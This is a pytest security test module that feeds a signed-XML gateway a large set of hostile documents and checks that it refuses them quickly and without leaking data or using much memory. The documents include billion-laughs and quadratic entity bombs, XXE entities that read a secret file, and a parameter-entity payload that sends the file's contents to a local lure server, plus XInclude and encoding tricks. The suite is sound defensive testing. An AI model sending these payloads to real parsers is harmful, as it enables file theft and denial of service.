"""Documents that would exhaust or mislead a parser, handed to a running gateway over TLS."""

import asyncio
import re
import sys
from collections.abc import AsyncIterator, Callable
from contextlib import asynccontextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from gateway.app import Part as RunningPart
from gateway.errors import Refusal

if TYPE_CHECKING:
    from tests.plugins.forging import Signer, forge
    from tests.plugins.house import Answer, House, Part, SenderHand
    from tests.plugins.second_opinion import agreed
else:
    from forging import Signer, forge
    from house import Answer, House, Part, SenderHand
    from second_opinion import agreed

LIMIT_BYTES = 256 * 1024
ANSWER_WITHIN_S = 20.0
ANSWER_BYTES = 64 * 1024
GROWTH_BYTES = 64 * 1024 * 1024
GROWTH_OF_EACH_BYTES = 16 * 1024 * 1024  # of many at once, with what the sender's own side of each request takes
SECRET = "never-to-be-read"

MALFORMED = (400, "malformed-message")
INVALID = (422, "invalid-message")
UNSIGNED = (400, "signature-invalid")
TOO_LARGE = (413, "message-too-large")

Make = Callable[[bytes], bytes]


@dataclass(frozen=True)
class Lures:
    """A file and an address that nothing may read."""

    file: Path
    port: int
    visits: list[str] = field(default_factory=list)

    def put_into(self, body: bytes) -> bytes:
        return body.replace(b"{file}", self.file.as_uri().encode()).replace(b"{web}", self.web.encode())

    @property
    def web(self) -> str:
        return f"http://127.0.0.1:{self.port}"


@asynccontextmanager
async def lures(directory: Path) -> AsyncIterator[Lures]:
    file = directory / "secret.txt"
    file.write_text(SECRET)
    visits: list[str] = []

    async def visited(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        visits.append((await reader.read(1024)).decode("latin-1"))
        writer.close()

    async with await asyncio.start_server(visited, "127.0.0.1", 0) as server:
        yield Lures(file, server.sockets[0].getsockname()[1], visits)


# ── Ways to spoil a signed message ──


def with_dtd(declarations: str, reference: str = "") -> Make:
    """The message behind a document type, with a reference to what it declares."""

    def make(body: bytes) -> bytes:
        root = body[body.index(b"<Message") :].replace(b"Aanslagbiljet", reference.encode() or b"Aanslagbiljet", 1)
        return f"<!DOCTYPE Message {declarations}>".encode() + root

    return make


def laughs(levels: int, width: int) -> str:
    entities = ['<!ENTITY a0 "ha">'] + [
        f'<!ENTITY a{level} "{f"&a{level - 1};" * width}">' for level in range(1, levels + 1)
    ]
    return f"[{''.join(entities)}]"


def within(element: str, filling: Callable[[int], str], count: int | None = None) -> Make:
    """So much of a filling inside an element as there is room for, or `count`."""

    def make(body: bytes) -> bytes:
        room = LIMIT_BYTES - len(body)
        number = count if count is not None else room // len(filling(99_999))
        filled = "".join(map(filling, range(number))).encode()
        return body.replace(f"<{element}>".encode(), f"<{element}>".encode() + filled, 1)

    return make


def in_tag(tag: str, filling: Callable[[int], str], count: int | None = None) -> Make:
    """So many attributes in a start tag as there is room for, or `count`."""

    def make(body: bytes) -> bytes:
        room = LIMIT_BYTES - len(body)
        number = count if count is not None else room // len(filling(99_999))
        return body.replace(f"<{tag}".encode(), f"<{tag}{''.join(map(filling, range(number)))}".encode(), 1)

    return make


def text_of(element: str, text: str) -> Make:
    return lambda body: re.sub(f"<{element}>[^<]*".encode(), f"<{element}>{text}".encode(), body, count=1)


def encoded(encoding: str, declared: str | None = None, mark: bytes = b"") -> Make:
    """The message in another encoding, which its declaration names or not."""

    def make(body: bytes) -> bytes:
        root = body[body.index(b"<Message") :].decode()
        declaration = f'<?xml version="1.0" encoding="{declared}"?>' if declared else ""
        return mark + (declaration + root).encode(encoding)

    return make


def doctype_in(encoding: str, mark: bytes = b"") -> Make:
    """A document type that a scan of bytes does not see."""
    return lambda body: (
        mark + f"<!DOCTYPE Message {laughs(9, 10)}>{body[body.index(b'<Message') :].decode()}".encode(encoding)
    )


def put(old: bytes, new: bytes) -> Make:
    return lambda body: body.replace(old, new, 1)


XINCLUDE = 'xmlns:xi="http://www.w3.org/2001/XInclude"'
# Each name: the document, and the status and code with which it is refused.
BOMBS: dict[str, tuple[Make, tuple[int, str]]] = {
    # Entities
    "billion laughs": (with_dtd(laughs(9, 10), "&a9;"), MALFORMED),
    "quadratic blow-up": (with_dtd(f'[<!ENTITY a "{"a" * 100_000}">]', "&a;" * 30_000), MALFORMED),
    "entity that holds itself": (with_dtd('[<!ENTITY a "&b;"><!ENTITY b "&a;">]', "&a;"), MALFORMED),
    "external entity, file": (with_dtd('[<!ENTITY a SYSTEM "{file}">]', "&a;"), MALFORMED),
    "external entity, web": (with_dtd('[<!ENTITY a SYSTEM "{web}/a">]', "&a;"), MALFORMED),
    "external entity, endless": (with_dtd('[<!ENTITY a SYSTEM "file:///dev/zero">]', "&a;"), MALFORMED),
    "parameter entity": (with_dtd('[<!ENTITY % a SYSTEM "{web}/a.dtd"> %a;]'), MALFORMED),
    "parameter entity that sends a file": (
        with_dtd('[<!ENTITY % f SYSTEM "{file}"><!ENTITY % a "<!ENTITY b SYSTEM \'{web}/?%f;\'>"> %a;]', "&b;"),
        MALFORMED,
    ),
    "external document type": (with_dtd('SYSTEM "{web}/message.dtd"'), MALFORMED),
    "public document type": (with_dtd('PUBLIC "-//W3C//DTD XHTML 1.0//EN" "{web}/xhtml.dtd"'), MALFORMED),
    "document type in UTF-16": (doctype_in("utf-16-le", b"\xff\xfe"), MALFORMED),
    "document type in UTF-16, unmarked": (doctype_in("utf-16-be"), MALFORMED),
    "document type in UTF-7": (
        lambda body: (
            b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE Message+AD4-' + body[body.index(b"<Message") :]
        ),
        MALFORMED,
    ),
    "document type in EBCDIC": (encoded("cp037", "cp037"), MALFORMED),
    "entity that nobody declared": (put(b"Aanslagbiljet", b"&a;"), MALFORMED),
    # Inclusions
    "XInclude of a file": (
        within("Recipient", lambda _: f'<xi:include {XINCLUDE} parse="text" href="{{file}}"/>', 1),
        INVALID,
    ),
    "XInclude in a text": (
        within("Purpose", lambda _: f'<xi:include {XINCLUDE} parse="text" href="{{web}}/"/>', 1),
        INVALID,
    ),
    "style sheet": (put(b"<Message ", b'<?xml-stylesheet type="text/xsl" href="{web}/a.xsl"?><Message '), MALFORMED),
    "schema location": (
        put(
            b"<Message ",
            b'<Message xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
            b'xsi:schemaLocation="urn:document-gateway:message:1 {web}/a.xsd" ',
        ),
        INVALID,
    ),
    "external reference": (put(b'URI="#message"', b'URI="{web}/message.xml"'), UNSIGNED),
    "external reference, file": (put(b'URI="#message"', b'URI="{file}"'), UNSIGNED),
    # Depth, width, size
    "10,000 deep": (lambda _: b"<a>" * 10_000 + b"</a>" * 10_000, MALFORMED),
    "10,000 deep, never closed": (lambda _: b"<a>" * 10_000, MALFORMED),
    "10,000 deep inside": (
        lambda body: body.replace(b"<Recipient>", b"<Recipient>" + b"<a>" * 10_000 + b"</a>" * 10_000),
        MALFORMED,
    ),
    "32 deep, as wide as may be": (within("Recipient", lambda _: "<a>" * 28 + "</a>" * 28), INVALID),
    "elements": (within("Recipient", lambda _: "<a/>"), INVALID),
    "documents": (within("Documents", lambda _: '<Document x="1"/>'), INVALID),
    "channels": (put(b"<Documents>", f"<Channels>{'<Channel/>' * 20_000}</Channels><Documents>".encode()), INVALID),
    "100,000 attributes": (in_tag("Message", lambda place: f' a{place}=""', 100_000), TOO_LARGE),
    "attributes": (in_tag("Message", lambda place: f' a{place:05}=""'), MALFORMED),
    "32 attributes": (in_tag("Message", lambda place: f' a{place:05}=""', 31), INVALID),
    "one attribute again and again": (in_tag("Message", lambda _: ' a=""'), MALFORMED),
    "attributes of a prefix": (
        in_tag("Message", lambda place: f' xml:a{place:05}=""'),
        MALFORMED,
    ),
    "namespaces": (in_tag("Message", lambda place: f' xmlns:a{place:05}="urn:a"'), MALFORMED),
    "namespaces of a leaf": (in_tag("Purpose", lambda place: f' xmlns:a{place:05}="urn:a"'), MALFORMED),
    "signatures": (
        put(
            b"<ds:Signature ",
            b'<s:Signature xmlns:s="http://www.w3.org/2000/09/xmldsig#"/>' * 3_000 + b"<ds:Signature ",
        ),
        UNSIGNED,
    ),
    "references": (put(b"<ds:Reference ", b'<ds:Reference URI=""/>' * 9_000 + b"<ds:Reference "), UNSIGNED),
    "transforms": (put(b"<ds:Transform ", b'<ds:Transform Algorithm=""/>' * 7_000 + b"<ds:Transform "), UNSIGNED),
    "objects": (put(b"<ds:KeyInfo>", b"<ds:Object/>" * 16_000 + b"<ds:KeyInfo>"), UNSIGNED),
    "instructions": (within("Recipient", lambda _: "<?a?>"), MALFORMED),
    "text": (text_of("Purpose", "a" * 250_000), INVALID),
    "text of a number": (text_of("Ssin", "9" * 250_000), INVALID),
    "text of a category": (text_of("Category", "a" * 250_000), INVALID),
    "text of a time": (text_of("CreatedAt", "2" * 250_000), INVALID),
    "text of a signature": (text_of("ds:SignatureValue", "A" * 250_000), UNSIGNED),
    "text of a certificate": (text_of("ds:X509Certificate", "A" * 250_000), UNSIGNED),
    "text, 4 MB": (text_of("Purpose", "a" * 4_000_000), TOO_LARGE),
    "value": (lambda body: re.sub(b'filename="[^"]*', b'filename="' + b"a" * 250_000, body), INVALID),
    "name": (lambda _: b"<" + b"a" * 250_000 + b"/>", MALFORMED),
    "references to characters": (within("Purpose", lambda _: "&#38;"), INVALID),
    "declaration": (lambda _: b"<?xml " + b"?" * 250_000, MALFORMED),
    "spaces in the declaration": (
        lambda body: b"<?xml version='1.0'" + b" encoding" * 20_000 + b"?>" + body,
        MALFORMED,
    ),
    # Encodings
    "UTF-16 with its mark": (encoded("utf-16", "UTF-16"), MALFORMED),
    "UTF-16 without, little end first": (encoded("utf-16-le"), MALFORMED),
    "UTF-16 without, big end first": (encoded("utf-16-be", "UTF-16"), MALFORMED),
    "UTF-32 with its mark": (encoded("utf-32", "UTF-32"), MALFORMED),
    "UTF-32 without": (encoded("utf-32-le"), MALFORMED),
    "UTF-32, big end first": (encoded("utf-32-be", "UTF-32"), MALFORMED),
    "UTF-16 that says UTF-8": (encoded("utf-16", "UTF-8"), MALFORMED),
    "UTF-8 that says UTF-16": (encoded("utf-8", "UTF-16"), MALFORMED),
    "UTF-8 that says Latin-1": (encoded("utf-8", "ISO-8859-1"), MALFORMED),
    "UTF-8 that says nothing known": (encoded("utf-8", "x-unknown"), MALFORMED),
    "UTF-8 that says ASCII": (encoded("utf-8", "US-ASCII"), MALFORMED),
    "UTF-8 behind the mark of UTF-16": (encoded("utf-8", mark=b"\xff\xfe"), MALFORMED),
    "mark in the middle": (put(b"Aanslagbiljet", b"\xef\xbb\xbfAanslagbiljet"), UNSIGNED),
    "NUL": (put(b"Aanslagbiljet", b"Aanslag\0biljet"), MALFORMED),
    "NUL behind": (lambda body: body + b"\0", MALFORMED),
    "nothing but NULs": (lambda _: bytes(LIMIT_BYTES), MALFORMED),
    "octet that begins nothing": (put(b"Aanslagbiljet", b"\xffanslagbiljet"), MALFORMED),
    "letter of one octet too many": (put(b"Aanslagbiljet", b"\xc1\x81anslagbiljet"), MALFORMED),
    "half a pair": (put(b"Aanslagbiljet", b"\xed\xa0\x80anslagbiljet"), MALFORMED),
    "beyond Unicode": (put(b"Aanslagbiljet", b"\xf4\x90\x80\x80anslagbiljet"), MALFORMED),
    "no character of XML": (put(b"Aanslagbiljet", b"\xef\xbf\xbfanslagbiljet"), MALFORMED),
    "reference to no character": (put(b"Aanslagbiljet", b"&#x1F;anslagbiljet"), MALFORMED),
    "escape character": (put(b"Aanslagbiljet", b"\x1b[2Jbiljet"), MALFORMED),
    "empty": (lambda _: b"", MALFORMED),
    "no XML": (lambda _: b"\x1f\x8b\x08" + bytes(range(256)), MALFORMED),
}


@pytest.fixture
async def house(make_house: Any) -> House:
    """A gateway that takes letters over and delivers none, so that memory is that of requests."""
    made: House = await make_house(parts=[RunningPart.INTAKE])
    return made


def memory(field_name: str) -> int:
    """A figure of this process in which the gateway runs: VmRSS now, VmHWM the most since `forget_peak`; bytes."""
    for line in Path("/proc/self/status").read_text().splitlines():
        if line.startswith(f"{field_name}:"):
            return int(line.split()[1]) * 1024
    raise AssertionError(field_name)


def forget_peak() -> None:
    Path("/proc/self/clear_refs").write_text("5")


async def hand_over(sender: SenderHand, body: bytes) -> Answer:
    async with asyncio.timeout(ANSWER_WITHIN_S):
        return await sender.post([Part("message", body, "application/xml")])


def wrong(answer: Answer, expected: tuple[int, str]) -> str | None:
    """What is not as it should be in the answer to a bomb."""
    if (answer.status, answer.code) != expected:
        return f"{answer.status} {answer.code}: {answer.json['detail']}"
    if len(answer.body) > ANSWER_BYTES or SECRET.encode() in answer.body:
        return f"an answer of {len(answer.body)} bytes"
    return None


@pytest.mark.filterwarnings("ignore:Sending a large body:ResourceWarning")  # the sender's, of 4 MB
async def test_every_bomb_is_refused_in_time_and_in_little_memory_and_the_next_letter_is_taken(
    house: House, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    sender = await house.sender()
    signed = sender.sign(sender.message())
    await sender.accepted()
    found: dict[str, str] = {}
    growth: dict[str, int] = {}
    async with lures(tmp_path) as lured:
        for name, (make, expected) in BOMBS.items():
            bomb = lured.put_into(make(signed))
            assert bomb != signed, name
            forget_peak()
            before = memory("VmRSS")
            fault = wrong(await hand_over(sender, bomb), expected)
            growth[name] = memory("VmHWM") - before
            if fault:
                found[name] = fault
            await sender.accepted()
    worst = max(growth, key=lambda name: growth[name])
    with capsys.disabled():
        sys.stdout.write(f"\n{len(BOMBS)} bombs; most memory for one: {growth[worst] / 2**20:.1f} MiB ({worst})\n")
    assert found == {}
    assert lured.visits == []
    assert growth[worst] < GROWTH_BYTES


def test_signxml_refuses_every_bomb_too_or_ours_is_stricter(
    honest_xml: bytes, gemeente: Signer, tmp_path: Path
) -> None:
    signed = forge(honest_xml, gemeente)
    lured = Lures(tmp_path / "secret.txt", 9)
    for name, (make, _) in BOMBS.items():
        bomb = lured.put_into(make(signed))
        assert bomb != signed, name
        with pytest.raises(Refusal):
            agreed(bomb, gemeente.certificate)


async def test_many_bombs_at_once_take_little_memory_and_letters_between_them_are_taken(
    house: House, capsys: pytest.CaptureFixture[str]
) -> None:
    sender = await house.sender()
    signed = sender.sign(sender.message())
    heavy = ["attributes", "elements", "namespaces", "text of a number", "objects", "documents"] * 2
    bombs = [(BOMBS[name][0](signed), BOMBS[name][1]) for name in heavy]
    await sender.accepted()
    forget_peak()
    before = memory("VmRSS")
    answers, letters = await asyncio.gather(
        asyncio.gather(*(hand_over(sender, bomb) for bomb, _ in bombs)),
        asyncio.gather(*(sender.send() for _ in range(4))),
    )
    growth = memory("VmHWM") - before
    with capsys.disabled():
        sys.stdout.write(f"\n{len(bombs)} bombs at once: {growth / 2**20:.1f} MiB\n")
    assert [wrong(answer, expected) for answer, (_, expected) in zip(answers, bombs, strict=True)] == [None] * len(
        bombs
    )
    assert [letter.status for letter in letters] == [201] * len(letters)
    assert growth < len(bombs) * GROWTH_OF_EACH_BYTES


async def test_a_message_of_256_kib_is_taken_and_one_byte_more_is_not(house: House) -> None:
    sender = await house.sender()
    for fill in (bytes.ljust, lambda body, size: body + b"<!--" + b" " * (size - len(body) - 7) + b"-->"):
        message = sender.message()
        signed = sender.sign(message)
        over = await sender.post(sender.parts(message, manifest=fill(signed, LIMIT_BYTES + 1)))
        assert (over.status, over.code) == TOO_LARGE
        exact = fill(signed, LIMIT_BYTES)
        assert len(exact) == LIMIT_BYTES
        assert (await sender.post(sender.parts(message, manifest=exact))).status == 201


async def test_no_value_of_a_message_comes_back_however_long_it_is(house: House) -> None:
    sender = await house.sender()
    signed = sender.sign(sender.message())
    for length in (20, 1_000, 31_900, 32_100, 63_900, 64_100, 200_000):
        for element in ("Ssin", "Category", "Postcode"):
            value = ("_" + "85073003328" * length)[:length]
            answer = await hand_over(sender, text_of(element, value)(signed))
            assert (answer.status, answer.code) == INVALID
            assert b"85073003328" not in answer.body
            assert [error["pointer"].rpartition("/")[2] for error in answer.json["errors"]] == [element]
